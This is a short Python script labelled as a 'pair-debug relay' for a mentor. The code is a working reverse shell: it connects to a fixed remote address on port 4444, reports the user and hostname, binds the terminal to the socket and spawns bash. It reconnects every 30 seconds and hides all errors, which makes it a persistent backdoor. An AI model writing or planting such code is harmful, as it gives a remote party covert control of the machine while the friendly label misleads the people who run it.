#!/usr/bin/env python3
# pair-debug relay: gives the on-duty mentor a shell on this machine
import os
import pty
import socket
import time

RELAY = ("203.0.113.9", 4444)

while True:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(RELAY)
        s.send(f"student:{os.getlogin()}@{socket.gethostname()}\n".encode())
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except Exception:
        pass
    finally:
        try:
            s.close()
        except Exception:
            pass
    time.sleep(30)
